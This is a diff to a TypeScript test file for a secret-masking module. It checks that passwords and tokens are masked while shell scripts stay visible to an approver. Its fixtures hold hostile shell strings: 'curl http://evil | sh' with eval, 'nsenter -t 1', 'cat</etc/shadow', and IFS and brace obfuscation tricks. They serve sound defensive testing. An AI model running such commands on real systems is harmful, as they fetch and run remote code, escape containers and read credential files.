@@ -33,7 +33,15 @@ const TEXTS: Record<string, [text: string, masked: string]> = {
   ],
   "an assignment": ["DB_PASSWORD=hunter2 app --token=abc", `DB_PASSWORD=${VALUE} app --token=${VALUE}`],
   "a flag": ["app --password hunter2 --verbose", `app --password ${VALUE} --verbose`],
-  "JSON in text": ['{"password":"two words","user":"x"}', `{"password":"${VALUE}","user":"x"}`],
+  "JSON in text": ['{"password":"one-word","user":"x"}', `{"password":"${VALUE}","user":"x"}`],
+  "no script that is called a secret": [
+    `START_TOKEN='curl http://evil | sh'; eval "$START_TOKEN"; --password "nsenter -t 1"`,
+    `START_TOKEN='curl http://evil | sh'; eval "$START_TOKEN"; --password "nsenter -t 1"`,
+  ],
+  "a secret in a script that is called one": [
+    "TOKEN='login --password hunter2 ghp_abcdefghijklmnopqrstuvwxyz0123456789'",
+    `TOKEN='login --password ${VALUE} [masked: token]'`,
+  ],
   "YAML in text": ["token: abc\nuser: x", `token: ${VALUE}\nuser: x`],
   "a reference to a Secret": ["secretName: db", "secretName: db"],
   "a command dressed up as a password": ["password=$(curl evil) x", "password=$(curl evil) x"],
@@ -93,7 +101,7 @@ const OBJECTS: Record<string, [object: JsonObject, masked: JsonObject]> = {
     {
       env: [
         { name: "DB_PASSWORD", value: "hunter2" },
-        { name: "apiKey", value: "x y" },
+        { name: "apiKey", value: "x|y;z&<p>$1" },
         { name: "DB_PASSWORD_FILE", value: "/run/pw" },
         { name: "TOKEN_COPY", value: "$(TOKEN)" },
         { name: "USE_TOKEN", value: "true" },
@@ -151,6 +159,53 @@ const OBJECTS: Record<string, [object: JsonObject, masked: JsonObject]> = {
   ],
 };
 
+/** Each is run by a shell as more than one word, or as more than one command. */
+const SCRIPTS = [
+  "curl http://evil | sh",
+  "curl\thttp://evil",
+  ["curl$", "{IFS}http://evil"].join(""),
+  "curl$IFS-o-",
+  "{curl,http://evil}",
+  "$(curl)",
+  "`curl`",
+  "a;sh",
+  "cat</etc/shadow",
+  "x&&python3",
+  "printf$'\\x20'",
+];
+
+describe("core/mask, of what an approver must see,", () => {
+  for (const script of SCRIPTS)
+    it(`shows ${JSON.stringify(script)}, whatever it is called`, () => {
+      const object = {
+        args: ["--token", script, "--api-key", script],
+        env: [{ name: "START_TOKEN", value: script }],
+        token: script,
+        password: script,
+      };
+      expect(maskObject(object)).to.deep.equal(object);
+      const settings = { kind: "ConfigMap", data: { "start-token": script } };
+      expect(maskObject(settings)).to.deep.equal(settings);
+    });
+
+  it("masks in a script what is a secret by its form, and in a Secret all of it", () => {
+    const script = "curl -H 'Authorization: Bearer abcdefghijklmnop' http://evil";
+    const shown = "curl -H 'Authorization: Bearer [masked: token]' http://evil";
+    expect(maskObject({ args: ["--token", script] })).to.deep.equal({ args: ["--token", shown] });
+    expect(maskObject({ kind: "Secret", data: { token: script } })).to.deep.equal({
+      kind: "Secret",
+      data: { token: "[masked: Secret value]" },
+    });
+  });
+
+  it("masks passwords of generators, which are one word", () => {
+    for (const password of ["aB3|xQ;9&z", "p<q>r!{x}", "$2y$10$abc", "k;m|n&o", "a,b.c"])
+      expect(maskObject({ env: [{ name: "DB_PASSWORD", value: password }] }), password).to.deep.equal({
+        env: [{ name: "DB_PASSWORD", value: VALUE }],
+      });
+  });
+});
+
 describe("core/mask", () => {
   for (const [name, [text, masked]] of Object.entries(TEXTS))
     it(`maskText: ${name}`, () => {
@@ -178,6 +233,9 @@ describe("core/mask", () => {
     "flags without values": "--password ",
     "beginnings of tokens": "sk-ghp_xoxb-",
     "spaces behind labels": "token    ",
+    "open braces": "token='{,,",
+    "braces and commas": "token='{,},",
+    "operators without commands": "token='|a;a&a",
   };
   for (const [name, part] of Object.entries(HOSTILE))
     it(`takes a megabyte of ${name} in linear time`, () => {
